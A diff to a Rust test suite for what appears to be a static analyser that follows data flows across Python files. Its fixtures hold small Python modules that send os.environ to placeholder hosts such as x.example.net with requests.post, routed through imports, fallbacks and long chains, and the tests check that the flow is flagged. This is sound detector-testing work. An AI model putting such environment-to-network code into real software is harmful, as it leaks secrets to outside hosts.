@@ -143,6 +143,63 @@ fn data_is_followed_through_any_file_that_hands_it_on() {
 }
 
 #[test]
+fn names_that_are_handed_on_and_bound_more_than_once_are_followed() {
+    let rule = "AL-FLOW-environment-to-network";
+    let gather = "import os\nX = dict(os.environ)\ndef get():\n    return [os.environ]\n";
+    let take = "import requests\ndef put(body):\n    requests.post('https://x.example.net', data=body)\n";
+    let (give, send) =
+        ("from p.b import y\nfrom p.t import put\nput(y)\n", "from p.b import put\nimport os\nput(os.environ)\n");
+    for (hand, last) in [
+        ("from p.a import X\ny = [X]\n", give),
+        ("import p.a\ny = {'x': p.a.X}\n", give),
+        ("from p.a import *\ny = f'{X}'\n", give),
+        ("try:\n    from p.a import get\nexcept ImportError:\n    from p.n import get\ny = [get()]\n", give),
+        ("try:\n    from p.c import y\nexcept ImportError:\n    from p.n import y\n", give),
+        ("try:\n    from p.n import y\nexcept ImportError:\n    from p.c import y\n", give),
+        ("try:\n    from p.d import put\nexcept ImportError:\n    from p.n import put\n", send),
+        ("try:\n    from p.n import put\nexcept ImportError:\n    from p.d import put\n", send),
+    ] {
+        let files = [
+            ("p/__init__.py", ""),
+            ("p/a.py", gather),
+            ("p/t.py", take),
+            ("p/n.py", "y = 1\ndef get(): return 1\ndef put(x): return x\n"),
+            ("p/c.py", "from p.a import get\ny = [get()]\n"),
+            ("p/d.py", "from p.t import put as f\ndef put(x): f([x])\n"),
+            ("p/b.py", hand),
+            ("p/last.py", last),
+        ];
+        assert!(!ways(&files, rule).is_empty(), "{hand}{last}");
+    }
+}
+
+#[test]
+fn many_ways_to_sinks_hide_none() {
+    let posts: String = (0..70).map(|n| format!("    requests.post('https://x{n}.example.net', data=q)\n")).collect();
+    let take =
+        format!("import requests\ndef put(q, body):\n{posts}    requests.post('https://y.example.net', data=body)\n");
+    let files = [
+        ("p/__init__.py", ""),
+        ("p/a.py", take.as_str()),
+        ("p/b.py", "from p.a import put\nimport os\nput(1, dict(os.environ))\n"),
+    ];
+    assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1);
+}
+
+#[test]
+fn a_way_from_another_file_s_data_that_is_cut_short_is_told() {
+    let long: String = (1..3000).map(|n| format!("x{n} = [x{}]\n", n - 1)).collect();
+    let main = format!("from .a import f\nfrom .b import put\nx0 = f()\n{long}put(x2999)\n");
+    let files = [
+        ("p/__init__.py", ""),
+        ("p/a.py", "import os\ndef f(): return [os.environ]\n"),
+        ("p/b.py", "import requests\ndef put(body): requests.post('https://x.example.net', data=body)\n"),
+        ("p/c.py", &main),
+    ];
+    assert!(findings(&files).iter().any(|finding| finding.rule == "AL-CODE-too-complex"));
+}
+
+#[test]
 fn files_that_hand_data_to_one_another_in_a_circle_end() {
     let one = "import os\nfrom .b import g\ndef f(x): return [g(x), os.environ]\n";
     let other = "from .a import f\nimport requests\ndef g(x):\n    requests.post('https://x.example.net', data=x)\n    return [f(x)]\n";
@@ -154,16 +211,18 @@ fn files_that_hand_data_to_one_another_in_a_circle_end() {
 #[test]
 fn data_that_is_handed_on_through_more_than_is_looked_at_is_told() {
     let send = "import requests\ndef f(body):\n    requests.post('https://x.example.net', data=body)\n";
-    let hand = |_| format!("def f(body): g(body)\n{}", "x = 'a text of no meaning'\n".repeat(4000));
-    let found = |count| {
+    let found = |count, lines| {
+        let hand = |_| format!("def f(body): g(body)\n{}", "x = 'a text of no meaning'\n".repeat(lines));
         let files = chain(send, count, hand, "import os\nf(dict(os.environ))\n");
         let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
         let found = findings(&files).into_iter().map(|finding| finding.rule);
         let is_told = |rule: &String| rule == "AL-FLOW-environment-to-network" || rule == "AL-CODE-too-complex";
         found.filter(is_told).collect::<Vec<_>>()
     };
-    assert_eq!(found(3), ["AL-FLOW-environment-to-network"]);
-    assert_eq!(found(8), ["AL-CODE-too-complex"]);
+    assert_eq!(found(2, 12000), ["AL-FLOW-environment-to-network"]);
+    assert_eq!(found(8, 12000), ["AL-CODE-too-complex"]);
+    assert_eq!(found(60, 0), ["AL-FLOW-environment-to-network"]);
+    assert_eq!(found(80, 0), ["AL-CODE-too-complex"]);
 }
 
 #[test]
